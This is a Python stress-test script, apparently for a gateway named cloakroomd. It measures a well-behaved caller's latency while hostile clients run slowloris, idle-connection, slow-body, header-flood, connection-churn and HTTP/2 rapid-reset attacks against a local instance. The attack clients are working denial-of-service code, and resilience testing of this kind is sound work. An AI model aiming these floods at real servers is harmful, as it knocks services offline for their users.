#!/usr/bin/env python3
"""Hostile clients against a running cloakroomd (driven by benches/hostile/run.sh).

Phase 1 (baseline): one well-behaved caller makes GET /fn/echo/ok calls, each on a new
connection, for --duration seconds. Phase 2 (attack): the same caller, while hostile
clients keep their connections going (each one reconnects as soon as the gateway closes
it): slowloris heads, idle connections, slow bodies, header floods, connection churn and
HTTP/2 rapid reset. cloakroomd's RSS and open files are sampled every 250 ms.
Standard library only; 127.0.0.1 only; every socket is closed at the end.
"""

import argparse
import asyncio
import os
import resource
import statistics
import struct
import time


def proc_stats(pid):
    rss = hwm = 0
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                rss = int(line.split()[1])
            elif line.startswith("VmHWM:"):
                hwm = int(line.split()[1])
    return rss, hwm, len(os.listdir(f"/proc/{pid}/fd"))


class Counters:
    def __init__(self):
        self.c = {}

    def add(self, key, n=1):
        self.c[key] = self.c.get(key, 0) + n


async def good_caller(host, port, token, stop, lat, errors):
    req = (f"GET /fn/echo/ok HTTP/1.1\r\nhost: gw\r\nauthorization: Bearer {token}\r\n"
           "connection: close\r\n\r\n").encode()
    while not stop.is_set():
        t0 = time.perf_counter()
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
            w.write(req)
            await w.drain()
            data = await asyncio.wait_for(r.read(), 10)
            w.close()
            if data[:15] in (b"HTTP/1.1 200 OK", b"HTTP/1.0 200 OK"):
                lat.append(time.perf_counter() - t0)
            else:
                errors.append(data[:12] + b" ... " + data[-160:])
        except Exception as e:  # noqa: BLE001 - any failure is a failed call
            errors.append(repr(e)[:60])
        await asyncio.sleep(0.02)


async def keep(n, one, stop, counters, name):
    """Keeps `n` copies of the connection behaviour `one` going until `stop`."""

    async def slot():
        while not stop.is_set():
            try:
                await one(stop, counters)
            except (ConnectionError, OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
                pass
            if not stop.is_set():
                counters.add(f"{name} connections closed by the gateway")
            await asyncio.sleep(0.05)

    await asyncio.gather(*(slot() for _ in range(n)))


async def closed(r, seconds):
    """Waits up to `seconds` for the server to close; True when it did."""
    try:
        data = await asyncio.wait_for(r.read(65536), seconds)
        return data == b""
    except asyncio.TimeoutError:
        return False


async def slowloris(host, port):
    async def one(stop, counters):
        r, w = await asyncio.open_connection(host, port)
        try:
            w.write(b"GET /fn/echo/x HTTP/1.1\r\nhost: gw\r\n")
            i = 0
            while not stop.is_set():
                w.write(f"x-slow-{i}: a\r\n".encode())
                await w.drain()
                i += 1
                if await closed(r, 2):
                    return
        finally:
            w.close()

    return one


async def idle(host, port):
    async def one(stop, counters):
        r, w = await asyncio.open_connection(host, port)
        try:
            while not stop.is_set():
                if await closed(r, 1):
                    return
        finally:
            w.close()

    return one


async def slow_body(host, port, token):
    head = (f"POST /fn/echo/x HTTP/1.1\r\nhost: gw\r\nauthorization: Bearer {token}\r\n"
            "content-type: application/json\r\ncontent-length: 100000\r\n\r\n").encode()

    async def one(stop, counters):
        r, w = await asyncio.open_connection(host, port)
        try:
            w.write(head)
            while not stop.is_set():
                w.write(b" ")
                await w.drain()
                try:
                    data = await asyncio.wait_for(r.read(65536), 1)
                except asyncio.TimeoutError:
                    continue
                if data.startswith(b"HTTP/1.1 400"):
                    counters.add("slow bodies refused (400)")
                if data == b"" or data:
                    return
        finally:
            w.close()

    return one


async def header_flood(host, port):
    req = b"GET /fn/echo/x HTTP/1.1\r\nhost: gw\r\n" + b"".join(
        b"x-flood-%d: %s\r\n" % (i, b"v" * 100) for i in range(500)) + b"\r\n"

    async def one(stop, counters):
        while not stop.is_set():
            r, w = await asyncio.open_connection(host, port)
            try:
                w.write(req)
                await w.drain()
                data = await asyncio.wait_for(r.read(), 10)
                counters.add(f"header floods answered {data[9:12].decode(errors='replace') or 'EOF'}")
            except (ConnectionError, OSError):
                counters.add("header floods reset")
            finally:
                w.close()

    return one


async def churn(host, port):
    async def one(stop, counters):
        while not stop.is_set():
            _, w = await asyncio.open_connection(host, port)
            w.close()
            counters.add("churned connections")
            await asyncio.sleep(0)

    return one


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_get(path, authority):
    def literal(index, value):  # literal without indexing, indexed name
        return bytes([index, len(value)]) + value
    # :method GET, :scheme http (static table), :path and :authority as literals.
    return b"\x82\x86" + literal(4, path) + literal(1, authority)


async def rapid_reset(host, port):
    block = hpack_get(b"/fn/echo/x", f"{host}:{port}".encode())

    async def one(stop, counters):
        r, w = await asyncio.open_connection(host, port)
        goaway = asyncio.Event()

        async def reader():
            try:
                while True:
                    head = await r.readexactly(9)
                    length = int.from_bytes(head[:3], "big")
                    await r.readexactly(length)
                    if head[3] == 0x7:
                        counters.add("h2 GOAWAY received")
                        goaway.set()
            except (asyncio.IncompleteReadError, ConnectionError, OSError):
                goaway.set()

        task = asyncio.create_task(reader())
        try:
            w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))
            stream = 1
            while not stop.is_set() and not goaway.is_set() and stream < 2**31 - 200:
                batch = bytearray()
                for _ in range(100):
                    batch += frame(0x1, 0x5, stream, block)  # HEADERS, END_STREAM|END_HEADERS
                    batch += frame(0x3, 0, stream, struct.pack(">I", 0x8))  # RST_STREAM CANCEL
                    stream += 2
                w.write(bytes(batch))
                await w.drain()
                counters.add("h2 streams opened and reset", 100)
                await asyncio.sleep(0)
        finally:
            w.close()
            task.cancel()

    return one


def pct(xs, p):
    if not xs:
        return float("nan")
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(len(xs) * p))]


async def phase(args, host, port, attack):
    stop = asyncio.Event()
    lat, errors = [], []
    counters = Counters()
    samples = []

    async def sample():
        while not stop.is_set():
            samples.append(proc_stats(args.pid))
            await asyncio.sleep(0.25)

    tasks = [asyncio.create_task(good_caller(host, port, args.token, stop, lat, errors)),
             asyncio.create_task(sample())]
    if attack:
        plan = [
            ("slowloris", args.slowloris, await slowloris(host, port)),
            ("idle", args.idle, await idle(host, port)),
            ("slow body", args.slow_body, await slow_body(host, port, args.token)),
            ("header flood", args.header_flood, await header_flood(host, port)),
            ("churn", args.churn, await churn(host, port)),
            ("rapid reset", args.rapid_reset, await rapid_reset(host, port)),
        ]
        for name, n, one in plan:
            if n:
                tasks.append(asyncio.create_task(keep(n, one, stop, counters, name)))
    await asyncio.sleep(args.duration)
    stop.set()
    await asyncio.wait(tasks, timeout=15)
    for t in tasks:
        t.cancel()
    return lat, errors, counters.c, samples


def report(name, lat, errors, samples):
    rss = max(s[0] for s in samples) / 1024
    fds = max(s[2] for s in samples)
    fds_min = min(s[2] for s in samples)
    ms = [x * 1000 for x in lat]
    print(f"| {name} | {len(ms)} | {len(errors)} | {statistics.median(ms) if ms else float('nan'):.1f} | "
          f"{pct(ms, 0.99):.1f} | {max(ms) if ms else float('nan'):.1f} | {rss:.0f} | {fds_min}–{fds} |")


async def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--gateway", required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--token", required=True)
    p.add_argument("--duration", type=float, default=20)
    p.add_argument("--slowloris", type=int, default=500)
    p.add_argument("--idle", type=int, default=500)
    p.add_argument("--slow-body", type=int, default=200)
    p.add_argument("--header-flood", type=int, default=4)
    p.add_argument("--churn", type=int, default=4)
    p.add_argument("--rapid-reset", type=int, default=2)
    args = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, port = args.gateway.rsplit(":", 1)
    port = int(port)

    base = await phase(args, host, port, attack=False)
    under = await phase(args, host, port, attack=True)
    await asyncio.sleep(1)
    after = proc_stats(args.pid)

    print(f"\nHostile clients, {args.duration:.0f} s per phase; attackers: slowloris {args.slowloris}, "
          f"idle {args.idle}, slow body {args.slow_body}, header flood {args.header_flood}, "
          f"churn {args.churn}, h2 rapid reset {args.rapid_reset} connections\n")
    print("| phase | good calls | failed | p50 ms | p99 ms | max ms | peak RSS MiB | open fds |")
    print("| --- | --- | --- | --- | --- | --- | --- | --- |")
    report("well-behaved caller alone", base[0], base[1], base[3])
    report("during the attack", under[0], under[1], under[3])
    print(f"\nAfter the attack (1 s): RSS {after[0] / 1024:.0f} MiB, peak (VmHWM) {after[1] / 1024:.0f} MiB, "
          f"open fds {after[2]}.")
    print("\nAttack counters:")
    for k, v in sorted(under[2].items()):
        print(f"- {k}: {v}")
    if under[1]:
        print(f"\nFailed good calls (first 5): {under[1][:5]}")


if __name__ == "__main__":
    asyncio.run(main())
